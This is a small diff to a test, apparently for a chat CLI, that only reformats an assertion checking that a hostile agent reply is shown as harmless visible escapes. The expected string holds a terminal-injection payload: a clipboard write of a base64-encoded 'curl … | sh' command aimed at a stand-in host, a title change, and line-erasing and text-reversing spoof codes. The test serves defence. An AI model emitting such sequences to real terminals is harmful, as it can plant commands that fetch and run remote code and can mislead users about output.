@@ -43,7 +43,9 @@ test("invariant 10: chat --once shows a hostile reply as visible escapes; --json
   const shown = await once([]);
   expect(shown.exitCode).toBe(0);
   expect(terminalControlProblem(shown.stdout + shown.stderr)).toBeUndefined();
-  expect(shown.stdout).toContain("agent │ ok \\x1b]0;pwned\\x07\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[2K\\x0dpython │ safe \\u009b2J\\x7f \\u202eevil");
+  expect(shown.stdout).toContain(
+    "agent │ ok \\x1b]0;pwned\\x07\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[2K\\x0dpython │ safe \\u009b2J\\x7f \\u202eevil",
+  );
 
   const json = await once(["--json"]);
   expect(json.exitCode).toBe(0);
